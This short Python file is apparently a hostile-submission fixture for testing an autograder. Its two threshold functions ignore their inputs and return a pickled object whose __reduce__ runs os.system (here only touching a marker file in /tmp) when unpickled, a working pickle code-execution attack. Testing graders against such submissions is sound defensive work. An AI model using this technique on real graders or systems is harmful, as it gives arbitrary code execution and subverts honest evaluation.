"""Hostile submission: Return a pickle that would run code if the grader unpickled it."""
import os
import pickle


class Payload:
    def __reduce__(self):
        return (os.system, ('touch /tmp/learn-hostile-pickle',))


def apply_threshold(probabilities, threshold=0.5):
    return pickle.dumps(Payload())


def count_positive_predictions(probabilities, thresholds):
    return pickle.dumps(Payload())
